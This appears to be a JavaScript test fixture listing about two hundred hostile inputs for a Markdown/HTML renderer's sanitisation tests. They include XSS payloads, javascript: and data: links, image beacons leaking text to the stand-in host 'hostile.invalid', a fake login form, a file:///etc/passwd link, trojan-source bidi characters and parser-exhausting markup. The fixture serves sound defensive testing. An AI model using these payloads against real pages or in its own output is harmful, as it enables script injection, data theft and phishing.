// Two hundred texts that try to run, to call out, to break the page or to deceive its reader.
//
// Each payload that runs counts `window.executed` up or calls `alert`; each that calls out names
// `hostile.invalid`, a name that no network knows. A test adds marks around each text to see that
// the words beside it can still be read.

const RUN = 'window.executed++';
const AWAY = 'http://hostile.invalid';

// An HTML page would run these as it reads them.
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</p></article></body><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${AWAY}/frame></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}/x.swf">`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<link rel=prefetch href=${AWAY}/prefetch>`,
  `<style>@import '${AWAY}/x.css';</style>`,
  `<style>body{background:url(${AWAY}/bg)}</style>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/refresh">`,
  `<form action=${AWAY}/form><input name=password autofocus><button>Log in</button></form>`,
  `<video src=${AWAY}/x.mp4 autoplay onplay=${RUN}></video>`,
  `<audio src=${AWAY}/x.mp3 autoplay></audio>`,
  `<video><source onerror=${RUN} src=${AWAY}/x></video>`,
  `<img src=${AWAY}/pixel.png>`,
  `<img srcset="${AWAY}/pixel.png 2x">`,
  `<picture><source srcset=${AWAY}/x><img src=x></picture>`,
  `<table background=${AWAY}/bg><tr><td>cell</table>`,
  `<dialog open>Log in again: <input type=password></dialog>`,
  `<portal src=${AWAY}></portal>`,
  `<frameset><frame src=${AWAY}></frameset>`,
  `<applet code=${AWAY}/X.class></applet>`,
];

// One element and event each; none may become an element at all.
const HANDLERS = [
  ['img src=x', 'onerror'],
  ['img src=data:,', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['svg', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['a href=#', 'onclick'],
  ['a href=#', 'onpointerover'],
  ['div', 'onmouseenter'],
  ['div style=animation:spin', 'onanimationstart'],
  ['div style="transition:all 1s"', 'ontransitionend'],
  ['button popovertarget=x', 'onbeforetoggle'],
  ['div contenteditable', 'oninput'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['form', 'onsubmit'],
  ['isindex type=image src=x', 'onerror'],
  ['div tabindex=1', 'onfocusin'],
  ['p', 'oncopy'],
  ['xss', 'onscrollend'],
].map(([element, event]) => `<${element} ${event}=${RUN}>press me`);

// Addresses that are programs, however they are written.
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript\u200b:${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript://hostile.invalid/%0A${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${AWAY}/x`,
  `file:///etc/passwd`,
  `filesystem:${AWAY}/x`,
  `view-source:${AWAY}`,
  `//hostile.invalid/protocol-relative`,
  `\\\\hostile.invalid\\share`,
  `/api/auth/logout`,
  `ms-settings:about`,
];

const LINKS = [
  ...SCHEMES.map((scheme) => `[press me](${scheme})`),
  ...SCHEMES.slice(0, 8).map((scheme) => `<${scheme}>`),
  ...SCHEMES.slice(12, 16).map((scheme) => `![picture](${scheme})`),
  `[press me][ref]\n\n[ref]: javascript:${RUN}`,
  `[press me](<javascript:${RUN}>)`,
  `[press me](javascript:${RUN} "title")`,
  `[press me](http://x "\\" onmouseover=${RUN} x=\\"")`,
  `[a](http://x"onmouseover=${RUN})`,
  `![pixel](${AWAY}/pixel.png)`,
  `![pixel](${AWAY}/pixel.png "a \\" onerror=${RUN}")`,
  `[![pixel](${AWAY}/pixel.png)](javascript:${RUN})`,
  `![](${AWAY}/leak?what-you-said)`,
  `[https://bank.example](${AWAY}/bank)`,
  `<${AWAY}/autolink>`,
  `${AWAY}/bare-link?q=<script>${RUN}</script>`,
];

const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>press me</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></foreignObject></svg>`,
  `<svg><image href=${AWAY}/pixel.svg /></svg>`,
  `<svg><style>@import '${AWAY}/svg.css'</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></table></mtext></math>`,
  `<math href="javascript:${RUN}">press me</math>`,
];

// The page's own language, or a template's.
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `__proto__[x]=${RUN}`,
  `<a id=location name=location href=x>`,
  `<form id=app><input name=innerHTML></form>`,
  `<div id=root data-testid=text role=alert>Log in again at ${AWAY}</div>`,
];

// Characters that are not seen, or that turn the others round.
const INVISIBLE = [
  'pay \u202e1000\u202c to eve',
  '\u202e\u202e\u202eall of it backwards',
  '\u2067isolated and never closed',
  '\u2066\u2067\u2068\u2069\u2069\u2069 closed too often',
  '\u202a\u202b\u202d\u202e embedded and never closed',
  `\`if (admin\u202e \u2066) {\u2069 \u2066\` trojan source`,
  '```\nif (level != "user\u202e \u2066// check\u2069 \u2066") {\n```',
  'zero\u200bwidth\u200cjoined\u200dwords\u2060here\ufeff',
  '\u00adsoft\u00adhyphens\u00adeverywhere\u00ad',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo',
  `o${'\u0300'.repeat(500)} a tower of marks`,
  '\u{e0041}\u{e0042}\u{e0043} tags',
  '\u2028line and\u2029paragraph separators',
  'p\u0430ypal.com is not paypal.com',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} one family, seven code points',
  '\ufffd\ufffe\uffff not characters',
  '\u001b[31mred\u001b[0m and \u0007 and \u0008\u0008\u0008',
  '\u3164\u3164\u3164 fillers \u115f\u1160',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and English and \u05e2\u05d1\u05e8\u05d9\u05ea',
  '\ufdfd\ufdfd\ufdfd\ufdfd wide',
  '\u0085\u00a0\u1680\u2000\u2001\u202f\u205f\u3000 blanks',
];

// Mark-up that never ends, nests for ever, or makes a reader go back for ever.
const BROKEN = [
  '```',
  '````markdown\n```\nnever closed',
  '~~~\n```\n~~~~',
  '```html\n</code></pre><script>window.executed++</script>',
  `\`\`\`${'x'.repeat(3000)}\nan endless language name`,
  '```"><script>window.executed++</script>\ncode\n```',
  '**bold *and ~~never `closed',
  '*'.repeat(8_000),
  '_a'.repeat(4_000),
  '['.repeat(6_000),
  '![['.repeat(3_000),
  '[a]('.repeat(3_000),
  '`'.repeat(9_001),
  '<'.repeat(8_000),
  `${'> '.repeat(2_000)}deep`,
  `${'- '.repeat(1_500)}deep`,
  Array.from({ length: 190 }, (_, n) => `${' '.repeat(n * 2)}- level ${n}`).join('\n'),
  `${'#'.repeat(40)} not a heading`,
  '# \n## \n### \n',
  '| a | b |\n|---|---|\n| only one\n| x | y | z | too many |',
  `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n|${'b|'.repeat(400)}`,
  '[^1]: a note\n\n[^1][^1][^2]',
  '- [ ] a box\n- [x] another\n- [?] none',
  '<details><summary>open me</summary>\n\n**inside**\n\n</details>',
  '---\ntitle: front matter\n---\n===\n***\n___',
  '\\\\\\*\\_\\`\\[\\]\\<\\>\\&',
  '&nbsp;&lt;&amp;lt;&#0;&#x110000;&bogus;&#99999999;',
  '1. one\n1. one\n99999999999. huge\n0. zero',
  '&&&&'.repeat(2_000),
];

const HUGE = [
  'w'.repeat(20_000),
  `https://example.com/${'path'.repeat(4_000)}`,
  `\`${'code'.repeat(4_000)}\``,
  `\`\`\`\n${'long line '.repeat(2_000)}\n\`\`\``,
  `\`\`\`js\n${'let x = 1;\n'.repeat(3_000)}\`\`\``,
  '\n'.repeat(10_000),
  '\u{1f980}'.repeat(8_000),
  `> ${'quoted '.repeat(3_000)}`,
  Array.from({ length: 3_000 }, (_, n) => `${n}. item`).join('\n'),
  'many words '.repeat(4_000),
  '# heading '.repeat(2_000),
  `| ${'cell '.repeat(2_000)} | b |\n|---|---|\n| c | d |`,
];

const TEXTS = [ELEMENTS, HANDLERS, LINKS, SVG, TEMPLATES, INVISIBLE, BROKEN, HUGE].flat();

// What a text of mark-up would have run; on a page it must stand to be read.
const visible = (body) => (body.startsWith('<') && body.includes(RUN) ? RUN : '');

// Each text between two paragraphs that can be told apart from all others.
export const HOSTILE = TEXTS.map((body, number) => ({
  content: `begin-${number}-mark\n\n${body}\n\nend-${number}-mark`,
  shows: [`begin-${number}-mark`, `end-${number}-mark`, visible(body)].filter(Boolean),
}));
